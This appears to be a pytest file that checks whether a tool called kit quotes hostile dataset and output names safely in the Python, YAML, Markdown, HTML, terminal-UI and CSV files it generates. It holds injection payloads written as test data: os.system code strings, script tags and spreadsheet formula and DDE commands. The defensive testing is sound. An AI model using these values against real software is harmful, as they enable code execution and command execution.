"""A name never becomes code (#37 item 4): hostile names put straight into what kit generates
(the tolerances' Python and YAML, the reports' Markdown and HTML, the TUI's markup) come out as
the same names, quoted for that text, and nothing of them runs, parses as structure or renders
as a tag."""

import json
import subprocess
import sys

import numpy as np
import yaml
from markdown_it import MarkdownIt
from places import KIT
from rich.text import Text
from stored import arrays, budget_store, env, put, spec

from kit.analysis.tolerances import from_rows
from kit.views.tolerances import render

# run by the module once imported, or by check() once called, were the names code
RUN_AT_IMPORT = "evil\nimport os; os.system('touch PWNED')  #"
RUN_IN_CHECK = "x\n    import os; os.system('touch PWNED_IN_CHECK')  #"
HOSTILE = [
    RUN_AT_IMPORT,
    RUN_IN_CHECK,
    "a: b\n- c",
    "<script>alert(1)</script>",
    "[bold]x[/]",
    "`|`",
    "tab\there\x1b[2J",
]


def _tolerances(name: str) -> dict:
    """kit.analysis.tolerances of a threads pair that moved every hostile output a little
    (one of them an exact one), for a dataset named ``name``."""
    moved = {"kind": "array", "changed": True, "most": {"max_abs": 1e-9, "max_rel": 1e-8}}
    outputs = {n: dict(moved) for n in HOSTILE}
    outputs["a: b\n- c"] = {"kind": "array", "changed": False}
    return from_rows(
        {"threads": {"pairs": 1, "outputs": outputs}}, {"dataset": "d" * 64, "name": name}
    )


def test_the_numpy_file_imports_without_running_a_name_and_keeps_each_as_a_key(tmp_path):
    (tmp_path / "generated_tolerances.py").write_text(render(_tolerances(RUN_AT_IMPORT), "numpy"))
    probe = (
        "import json, numpy as np, generated_tolerances as g\n"
        "got = {n: np.ones(3) for n in g.OUTPUTS}\n"
        "g.check(got, {n: a.copy() for n, a in got.items()})\n"
        "print(json.dumps([list(g.OUTPUTS), g.SOURCE]))\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", probe], cwd=tmp_path, capture_output=True, text=True, timeout=60
    )
    assert not (tmp_path / "PWNED").exists() and not (tmp_path / "PWNED_IN_CHECK").exists()
    assert proc.returncode == 0, proc.stderr
    names, source = json.loads(proc.stdout)
    assert names == HOSTILE and RUN_AT_IMPORT in source
    # the comments hold kit's words only: no line of the file starts inside a name
    for line in (tmp_path / "generated_tolerances.py").read_text().splitlines():
        assert not line.lstrip().startswith(("#", "import")) or "PWNED" not in line


def test_the_yaml_file_parses_to_the_same_names_and_nothing_else():
    text = render(_tolerances("a: b\n- c"), "pytest-regressions")
    got = yaml.safe_load(text)
    assert set(got) == {"source", "loose_generator", "tolerances", "aligned", "why"}
    assert "a: b\n- c" in got["source"] and got["loose_generator"] == []
    assert list(got["tolerances"]) == HOSTILE
    assert all(set(v) == {"rtol", "atol"} for v in got["tolerances"].values())
    assert got["tolerances"]["a: b\n- c"] == {"rtol": 0.0, "atol": 0.0}
    # the pytest-regressions usage the file's own comment gives still reads it
    assert got["tolerances"][RUN_AT_IMPORT]["atol"] >= 2e-9
    # hostile names of a loose generator: a list of the names as written, no comment holds one
    t = _tolerances("x")
    t["loose"] = [RUN_AT_IMPORT, "a: b\n- c"]
    text = render(t, "pytest-regressions")
    assert yaml.safe_load(text)["loose_generator"] == [RUN_AT_IMPORT, "a: b\n- c"]
    assert not [ln for ln in text.splitlines() if ln.startswith("#") and "evil" in ln]


def _md(text: str) -> str:
    """Markdown as a renderer that passes raw HTML through makes it (GitHub-style tables)."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def test_kit_s_report_quotes_a_bundle_s_host_and_cpu_for_markdown_and_html(tmp_path):
    from kit.app.verbs import report
    from kit.core.subject import of_dataset
    from kit.views.report import write

    st = budget_store(tmp_path)
    # an imported run's environment is the sender's word: its cpu and host names
    put(
        st,
        tmp_path,
        spec(replicate=7),
        arrays(0),
        env(cpu="<script>alert(1)</script>", host="h|x | injected | row |", os="`|`"),
    )
    write(report(st, of_dataset("d" * 64, {})), tmp_path / "rep")
    md = (tmp_path / "rep" / "report.md").read_text()
    page = (tmp_path / "rep" / "report.html").read_text()
    shown = _md(md)
    assert "<script>" not in shown and "<script>" not in page and "<script>" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown and "&lt;script&gt;" in page
    # the host's | broke no row: the environments' table has its two rows and hers (a newline
    # never gets this far: the store refuses a manifest with a control character,
    # tests/core/test_documents.py)
    environments = shown.split("Measured environments")[1]
    assert environments.count("<tr>") == 1 + 3 and "<td>injected</td>" not in environments
    assert "h|x | injected | row |" in environments  # the name itself, as written


def outputs_report_md(b: dict, v: dict, a: dict) -> str:
    """report.md of a pipeline file without its homology and figures (every name quoted)."""
    from kit.views.report import MARKDOWN, _output_sections

    return MARKDOWN.joined(_output_sections(b, v, a, MARKDOWN)) + "\n"


def test_a_lab_report_s_name_ends_no_code_block_and_starts_no_heading():
    name = "x```\n# injected\n<script>alert(1)</script>\n```y.py"
    head = {"name": name, "pipeline": "p" * 64}
    md = outputs_report_md(dict(head, factors={}), dict(head, why="no pairs"), dict(head, steps=[]))
    shown = _md(md)
    assert "<script>" not in shown and "injected</h1>" not in shown
    assert shown.count("<h1>") == 1 and shown.count("<h2>") == 3
    # rendered as kit's own report is (paragraphs and tables, no code blocks): the name is text
    assert "<pre>" not in shown and shown.count("<p>") >= 4


async def test_tui_markup_shows_a_name_as_written(kit_home):
    """The Compare tab's answer and table hold a bundle's host names and run labels: text."""
    from textual.widgets import DataTable

    from kit.envs.platforms import Platform
    from kit.runs.store import Store
    from kit.tui.app import KitApp
    from kit.tui.compare import ComparePane

    linux = Platform("linux", "x86_64", cpu_flags=frozenset({"avx", "avx2"}), downloads=True)
    rep = {
        "bundle_host": {"name": "[bold]theirs[/]"},
        "this_host": {"name": "[@click=app.quit]"},
        "answer": "[red]forged[/] answer",
        "per_run": [
            {
                "label": "[b]run[/] `|`",
                "identical_stages": 1,
                "stages": 2,
                "emb_rel": 0.0,
                "flips": {},
            }
        ],
        "environment_differences": {},
        "not_compared": [],
    }
    async with KitApp("synthetic", 120, platform=linux, store=Store()).run_test(
        size=(120, 30)
    ) as pilot:
        await pilot.press("7")
        pilot.app.query_one(ComparePane).post_message(ComparePane.Answered(rep))
        await pilot.pause()
        said = str(pilot.app.query_one("#compare-answer").render())
        assert "[bold]theirs[/] vs [@click=app.quit]: [red]forged[/] answer" in said
        cell = pilot.app.query_one("#compare-table", DataTable).get_cell_at((0, 0))
        assert Text.from_markup(cell).plain == "[b]run[/] `|`"  # as DataTable draws a str
        assert pilot.app.is_running  # the name's @click was never a click


def test_a_pipeline_name_with_dollars_is_drawn_as_written_not_as_a_formula():
    """matplotlib reads text between two `$` as a formula: one it cannot parse failed the
    report's whole figure (an internal error) before."""
    from kit.views.plots import plot_travel

    moved = {
        "kind": "array",
        "changed": True,
        "worst": {"rel": 0.1},
        "most": {"max_abs": 0.1, "max_rel": 0.1},
    }
    b = {"name": "a$\\frac{$b.py", "factors": {"threads": {"pairs": 1, "outputs": {"x": moved}}}}
    assert plot_travel(b, {"factors": {}}, {}).startswith(b"\x89PNG")


# issue 54, item 1: a bundle's output names as a spreadsheet would run them (OWASP's examples)
FORMULAS = [
    '=HYPERLINK("http://x"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\tx",
    "\r=1+1",
]


def _cells(text: str) -> list:
    import csv
    import io

    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_a_csv_cell_that_would_start_a_formula_is_written_as_text():
    from kit.views.quoting import spreadsheet

    for name in FORMULAS[:4]:
        assert spreadsheet(name) == "'" + name
    # a tab or a carriage return is shown, never written: one cell on one row, starting "\\"
    assert spreadsheet("\tx") == "\\tx" and spreadsheet("\r=1+1") == "\\r=1+1"
    for number in ("-0.5", "+1", "-1e-05", "3", "-.25"):  # a number stays a number
        assert spreadsheet(number) == number
    for other in ("plain", "a=b", "", -0.5, 3, None, True):
        assert spreadsheet(other) == other


def test_kit_budget_csv_writes_no_formula_from_any_name():
    """Names in the index (an output's, a pair's label), in a text column and in the header all
    land in the CSV; each is read back by a CSV reader as the name with a quote before it, and the
    numbers, a negative one included, stay numbers."""
    from kit.views.frames import csv_text, output_budget_frame, output_pairs_frame

    outputs = {
        n: {"kind": "array", "changed": True, "note": n, "most": {"rel": -0.5}} for n in FORMULAS
    }
    budget = csv_text(output_budget_frame({"factors": {"seed": {"pairs": 1, "outputs": outputs}}}))
    pairs = csv_text(
        output_pairs_frame(
            [
                {
                    "label": FORMULAS[0],
                    "factor": "seed",
                    "a": "a" * 64,
                    "b": "b" * 64,
                    "outputs": outputs,
                }
            ]
        )
    )
    header = csv_text(
        output_budget_frame(
            {"factors": {"seed": {"pairs": 1, "outputs": {"x": {"kind": "array", FORMULAS[1]: 1}}}}}
        )
    )
    for text in (budget, pairs, header):
        cells = _cells(text)
        live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-0.5"]
        assert not live, live
    assert {"'" + n for n in FORMULAS[:4]} <= set(_cells(budget)) and "-0.5" in _cells(budget)
    assert not any(c in text for c in "\t\r" for text in (budget, pairs))
    assert "'" + FORMULAS[1] in _cells(header)


def test_every_csv_kit_writes_goes_through_the_one_helper():
    """kit writes CSV in one place (kit.views.frames.csv_text, which quotes every cell); a new
    writer elsewhere would skip it."""

    root = KIT
    writers = {
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if any(w in p.read_text() for w in (".to_csv(", "csv.writer", "DictWriter", "to_excel("))
    }
    assert writers == {"views/frames.py"}


def test_a_bundle_whose_output_names_are_formulas_is_refused(tmp_path, monkeypatch, capsys):
    """No worker names an output `=...`: a bundle that does is forged, and refused in one line."""
    from kit.cli import main
    from kit.data import load_dataset
    from tests.app.test_bundle_derived import forge, refused, restage

    ds = load_dataset("synthetic", 120)
    budget_store(tmp_path, dataset=ds, home=tmp_path / "lab")
    monkeypatch.setenv("KIT_HOME", str(tmp_path / "lab"))
    assert main(["export", "--out", str(tmp_path / "lab.kit"), "--arrays"]) == 0
    capsys.readouterr()
    monkeypatch.setenv("KIT_HOME", str(tmp_path / "here"))
    for i, name in enumerate(FORMULAS[:3]):
        bad = forge(
            tmp_path / "lab.kit",
            tmp_path / f"f{i}.kit",
            lambda doc, ms, name=name: restage(doc["runs"][0], ms, name, np.zeros(3)),
        )
        refused(capsys, bad, "is not a plain name", "refusing the bundle")
